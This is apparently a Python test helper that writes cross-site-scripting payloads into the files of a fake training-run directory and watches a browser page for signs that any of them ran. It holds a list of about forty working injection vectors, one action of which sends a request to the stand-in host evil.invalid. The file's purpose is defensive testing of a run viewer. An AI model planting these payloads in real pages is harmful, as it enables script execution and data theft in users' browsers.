"""Texts that run a script where a page takes them for markup, and what shows that one did.

Each payload says its number when it runs: in a dialog, in a variable of the window, or in a request to a host that is
not there. `watch` collects all three, and what the page's content security policy had to stop: a payload that got that
far was taken for markup, too.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from whet.rl.storage.run_directory import write_step
from whet.system.files import json_line

VECTORS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<object data=\"javascript:{}\"></object>",
    "<a href=\"javascript:{}\" autofocus>click</a>",
    "<form action=\"javascript:{}\"><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<style>@import 'javascript:{}';</style>",
    "<marquee onstart={}>x</marquee>",
    "\" onmouseover=\"{}\" autofocus onfocus=\"{}\" x=\"",
    "' onfocus='{}' autofocus x='",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</pre><script>{}</script>",
    "</template><script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "&lt;script&gt;{}&lt;/script&gt;<script>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "<div hx-on:htmx:load=\"{}\" hx-get=/ hx-trigger=load>x</div>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
)  # fmt: skip
ACTIONS = ("alert({0})", "window.ran={0}", "fetch(`//evil.invalid/{0}`)")
PAYLOADS = tuple(
    vector.format(action.format(number), action.format(number))
    for number, (vector, action) in enumerate((vector, action) for vector in VECTORS for action in ACTIONS)
)
"""120 of them, three for each way into a page."""


class Ran:
    """What payloads did to a page of a browser."""

    def __init__(self, page: Any, address: str) -> None:
        self.signs: list[str] = []
        self._page, self._host = page, urlsplit(address).netloc
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("console", self._console)

    def visit(self, url: str) -> int:
        """The status of a page, after everything on it was loaded and touched."""
        answer = self._page.goto(url)
        _settle(self._page)
        ran = self._page.evaluate("window.ran")
        if ran is not None:
            self.signs.append(f"{url}: payload {ran} ran")
        # A tag that only a payload has.
        tags = "iframe, object, marquee, math, video, audio, body script, [onerror], [onload], [onfocus], [srcdoc]"
        found = self._page.evaluate(f"[...document.querySelectorAll('{tags}')].map((one) => one.outerHTML)")
        own = [text for text in found if not _ours(text)]
        if own:
            self.signs.append(f"{url}: {own[:2]}")
        links = "[...document.querySelectorAll('a[href], form[action]')].map((one) => one.href || one.action)"
        bad = [text for text in self._page.evaluate(links) if str(text).lower().startswith(("javascript:", "data:"))]
        if bad:
            self.signs.append(f"{url}: links to {bad[:2]}")
        return int(answer.status)

    def _dialog(self, dialog: Any) -> None:
        self.signs.append(f"{self._page.url}: a dialog of payload {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        parts = urlsplit(request.url)
        if parts.scheme not in ("data", "blob") and parts.netloc != self._host:
            self.signs.append(f"{self._page.url}: a request to {request.url}")

    def _console(self, message: Any) -> None:
        if "CSP:" in message.text or "Content Security Policy" in message.text:
            self.signs.append(f"{self._page.url}: {message.text}")


def _settle(page: Any) -> None:
    """Wait for the scripts of the page, and open what can be opened."""
    page.wait_for_load_state("load")
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.evaluate("document.querySelectorAll('input, button, a').forEach((one) => { one.focus(); })")
    page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")


def _ours(tag: str) -> bool:
    """Whether a script is one of the page's own: from its files, with nothing in it."""
    return tag.startswith("<script") and 'src="' in tag.partition(">")[0] and "></script>" in tag


def hostile_config(texts: list[str]) -> str:
    """A config whose values are payloads."""
    lines = [f"name = {json.dumps(texts[0])}", f"model = {json.dumps(texts[1])}", "max_steps = 3", "batch_size = 4"]
    for number, text in enumerate(texts):
        lines += ["[[env]]", f"id = {json.dumps(text)}", "[env.args]", f"x{number} = {json.dumps(text)}"]
    return "\n".join(lines) + "\n"


def hostile_row(text: str, group: int) -> dict[str, Any]:
    """A rollout with a payload in each of its texts."""
    call = json.dumps({"id": text, "name": text, "arguments": json.dumps({text: text})})
    answer = {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]}
    turn = {"prompt_start": 0, "prompt_ids": [257, 266], "completion_ids": [101, 102, 103]}
    turn |= {"completion_logprobs": [-0.01, -3.5, -0.7], "policy_version": [[4, 3]]}
    return {
        "group": str(group),
        "environment": text,
        "example_id": group,
        "prompt": [{"role": "system", "content": text}, {"role": text, "content": [{"type": "text", "text": text}]}],
        "completion": [answer, {"role": "tool", "tool_call_id": text, "content": text}],
        "answer": text,
        "info": {text: text},
        "reward": 1.0,
        "metrics": {text: 0.5},
        "advantage": 0.5,
        "stop_condition": text,
        "error": {"error": text, "error_chain_repr": text, "error_chain_str": text} if group % 2 else None,
        "is_truncated": False,
        "turns": [turn],
    }


def write_hostile(run: Path) -> None:
    """All payloads in all files of the directory of a training run."""
    texts = list(PAYLOADS)
    rows = [hostile_row(text, number) for number, text in enumerate(texts)]
    (run / "rollouts").mkdir(parents=True, exist_ok=True)
    for step, some in enumerate((rows[:60], rows[60:], rows[:8]), start=1):
        write_step(run / "rollouts", step, some)
    write_lines(run / "metrics.jsonl", [
        {"step": step, "reward/mean": 0.5, **{f"reward/{text}": 0.5 * step for text in texts}, texts[0]: 1.0}
        for step in (1, 2, 3)
    ])  # fmt: skip
    (run / "config.toml").write_text(hostile_config(texts))
    status = {"last_error": texts[3], "last_note": texts[4], "stalled": texts[:3], "phase": texts[5], "max_steps": 3}
    (run / "status.json").write_text(json.dumps({"state": "failed", "step": 3, **status}))
    (run / "logs").mkdir(exist_ok=True)
    lines = [f"2026-11-21T17:40:02+0000 {level} {text}" for text in texts for level in ("INFO", "WARNING")]
    (run / "logs" / "run.log").write_text("\n".join(lines) + "\n")
    write_lines(
        run / "errors.jsonl", [{"step": 1, "environment": text, "error": text, "rollouts": 1} for text in texts]
    )
    write_lines(run / "evals.jsonl", [
        {"step": 1, "moment": "during", "version": 1, "environment": text, "sampling": text, "metrics": {text: 0.5}}
        for text in texts
    ])  # fmt: skip
    known = {"trained": {text: {"name": text, "version": text} for text in texts}, "evaluated": {}}
    (run / "environments.json").write_text(json.dumps(known))


def write_lines(path: Path, rows: list[dict[str, Any]]) -> None:
    path.write_text("".join(map(json_line, rows)))
